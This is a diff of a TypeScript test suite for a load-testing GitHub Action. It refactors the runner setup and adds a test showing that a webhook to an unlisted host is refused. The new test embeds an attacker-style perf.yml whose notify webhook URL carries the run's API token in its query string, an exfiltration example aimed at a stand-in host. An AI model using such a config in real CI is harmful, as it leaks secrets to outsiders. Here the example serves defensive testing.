@@ -2,7 +2,8 @@
 // perf.yml's notify.slack: the webhook URL from ${SLACK_WEBHOOK_URL} is handed to the runner to mask
 // (::add-mask::) before anything else is logged, the Slack receiver gets one message whose button
 // links to the workflow run, and the URL is in no file the action writes. A webhook that answers 500
-// every time ends as a warning; the job still passes.
+// every time ends as a warning; the job still passes. With allowed-hosts set, a push to a host not in
+// push-hosts is refused before the load, so perf.yml cannot send the run's ${ENV} values elsewhere.
 import { spawn } from 'node:child_process';
 import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
@@ -37,8 +38,43 @@ afterAll(async () => {
   if (dir) await rm(dir, { recursive: true, force: true });
 });
 
-test('the action masks the webhook URL, posts to Slack with a link to the run, and warns on a failing webhook', async () => {
+/** dist/index.js with the runner's variables for a workflow_dispatch run, perf.yml in `runDir`. */
+async function runAction(runDir: string, extraEnv: Record<string, string>): Promise<{ code: number | null; log: string }> {
   const { action, root } = ensureBuilt();
+  await writeFile(join(runDir, 'event.json'), JSON.stringify({ repository: { full_name: 'acme/shop', default_branch: 'main' } }));
+  await writeFile(join(runDir, 'output.txt'), '');
+  const env: Record<string, string> = {
+    PATH: process.env.PATH ?? '',
+    HOME: process.env.HOME ?? runDir,
+    INPUT_CONFIG: join(runDir, 'perf.yml'),
+    INPUT_BASELINE: 'none',
+    INPUT_COMMENT: 'never',
+    'INPUT_OUT-DIR': join(runDir, 'out'),
+    GITHUB_EVENT_NAME: 'workflow_dispatch',
+    GITHUB_EVENT_PATH: join(runDir, 'event.json'),
+    GITHUB_REPOSITORY: 'acme/shop',
+    GITHUB_SERVER_URL: 'https://github.example',
+    GITHUB_RUN_ID: '4242',
+    GITHUB_REF: 'refs/heads/feature',
+    GITHUB_OUTPUT: join(runDir, 'output.txt'),
+    RUNNER_TEMP: runDir,
+    ...extraEnv,
+  };
+  const child = spawn(join(root, 'node_modules', '.bin', 'node'), [action], { cwd: runDir, env, stdio: ['ignore', 'pipe', 'pipe'] });
+  let log = '';
+  child.stdout.on('data', (chunk: Buffer) => (log += chunk.toString()));
+  child.stderr.on('data', (chunk: Buffer) => (log += chunk.toString()));
+  const code = await new Promise<number | null>((resolve) => {
+    const timer = setTimeout(() => child.kill('SIGKILL'), 50_000);
+    child.on('exit', (exitCode) => {
+      clearTimeout(timer);
+      resolve(exitCode);
+    });
+  });
+  return { code, log };
+}
+
+test('the action masks the webhook URL, posts to Slack with a link to the run, and warns on a failing webhook', async () => {
   const webhookUrl = `${slack.url}/services/T01/${SLACK_SECRET}`;
   await writeFile(
     join(dir, 'perf.yml'),
@@ -56,36 +92,7 @@ test('the action masks the webhook URL, posts to Slack with a link to the run, a
       '',
     ].join('\n'),
   );
-  await writeFile(join(dir, 'event.json'), JSON.stringify({ repository: { full_name: 'acme/shop', default_branch: 'main' } }));
-  await writeFile(join(dir, 'output.txt'), '');
-  const env: Record<string, string> = {
-    PATH: process.env.PATH ?? '',
-    HOME: process.env.HOME ?? dir,
-    SLACK_WEBHOOK_URL: webhookUrl,
-    INPUT_CONFIG: join(dir, 'perf.yml'),
-    INPUT_BASELINE: 'none',
-    INPUT_COMMENT: 'never',
-    'INPUT_OUT-DIR': join(dir, 'out'),
-    GITHUB_EVENT_NAME: 'workflow_dispatch',
-    GITHUB_EVENT_PATH: join(dir, 'event.json'),
-    GITHUB_REPOSITORY: 'acme/shop',
-    GITHUB_SERVER_URL: 'https://github.example',
-    GITHUB_RUN_ID: '4242',
-    GITHUB_REF: 'refs/heads/feature',
-    GITHUB_OUTPUT: join(dir, 'output.txt'),
-    RUNNER_TEMP: dir,
-  };
-  const child = spawn(join(root, 'node_modules', '.bin', 'node'), [action], { cwd: dir, env, stdio: ['ignore', 'pipe', 'pipe'] });
-  let log = '';
-  child.stdout.on('data', (chunk: Buffer) => (log += chunk.toString()));
-  child.stderr.on('data', (chunk: Buffer) => (log += chunk.toString()));
-  const code = await new Promise<number | null>((resolve) => {
-    const timer = setTimeout(() => child.kill('SIGKILL'), 50_000);
-    child.on('exit', (exitCode) => {
-      clearTimeout(timer);
-      resolve(exitCode);
-    });
-  });
+  const { code, log } = await runAction(dir, { SLACK_WEBHOOK_URL: webhookUrl });
   expect(code, log).toBe(0);
 
   // The runner is told to mask the URL before the first line that could hold it.
@@ -108,4 +115,34 @@ test('the action masks the webhook URL, posts to Slack with a link to the run, a
   expect(files.map((entry) => entry.name).sort()).toEqual(expect.arrayContaining(['results.json', 'verdict.json']));
   for (const entry of files) expect(await readFile(join(entry.parentPath, entry.name), 'utf8')).not.toContain(SLACK_SECRET);
   expect(await readFile(join(dir, 'output.txt'), 'utf8')).not.toContain(SLACK_SECRET);
+}, 120_000);
+
+test('with allowed-hosts set, a perf.yml that sends ${TOKEN} to an unlisted push host is refused before any request', async () => {
+  // What a pull request could write: the load's token in the query of its own webhook.
+  const attackDir = await mkdtemp(join(dir, 'attack-'));
+  await writeFile(
+    join(attackDir, 'perf.yml'),
+    [
+      'name: shop',
+      `target: ${target.url}`,
+      'http: { headers: { authorization: "Bearer ${API_TOKEN}" } }',
+      'load:',
+      '  phases:',
+      '    - { duration: 1s, rate: 5 }',
+      'notify:',
+      '  on: [finish]',
+      `  webhook: { url: "http://localhost:${failing.port}/collect?t=${'$'}{API_TOKEN}" }`,
+      '',
+    ].join('\n'),
+  );
+  const targetBefore = target.requests();
+  const receiverBefore = failing.requests();
+  const { code, log } = await runAction(attackDir, { API_TOKEN: 'tok-exfil-93b1c', 'INPUT_ALLOWED-HOSTS': '127.0.0.1' });
+  expect(code, log).not.toBe(0);
+  expect(log).toContain(`::error::notify.webhook.url: host "localhost:${failing.port}" is not an allowed push host (push-hosts: none) [PA_LIMIT]`);
+  expect([target.requests() - targetBefore, failing.requests() - receiverBefore]).toEqual([0, 0]);
+  // The same config with its host in push-hosts runs and pushes (the refusal above was the limit, not the config).
+  const allowed = await runAction(attackDir, { API_TOKEN: 'tok-exfil-93b1c', 'INPUT_ALLOWED-HOSTS': '127.0.0.1', 'INPUT_PUSH-HOSTS': 'localhost' });
+  expect(allowed.code, allowed.log).toBe(0);
+  expect(failing.requests() - receiverBefore).toBeGreaterThan(0);
 }, 120_000);
